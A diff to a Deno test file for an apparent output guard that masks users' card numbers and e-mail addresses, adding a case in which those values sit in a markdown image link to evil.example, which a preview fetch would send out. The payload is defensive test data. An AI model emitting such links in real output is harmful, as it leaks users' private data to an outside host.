@@ -75,6 +75,14 @@ Deno.test("a local-only message's values (a card, an e-mail beside it) go back t
       await guard.ownInputsScope("t"),
     );
     assert(!other.text.includes("4000 0566 5566 5556"), other.text);
+    // Inside a link the user's own values are masked too: a platform fetches it for a preview.
+    const leak = "![x](https://evil.example/p.png?c=4000056655665556&e=ada@example.org)";
+    const linked = await guard.sanitizeOutput("s", `See ${leak}`, "placeholder", scope);
+    assert(!linked.text.includes("4000056655665556"), linked.text);
+    assert(!linked.text.includes("ada@example.org"), linked.text);
+    const streamedLink = await guard.outputStream("s", "placeholder", scope);
+    const streamedOut = streamedLink.push(`See ${leak}`) + streamedLink.flush();
+    assert(!streamedOut.includes("ada@example.org"), streamedOut);
   });
 });
 
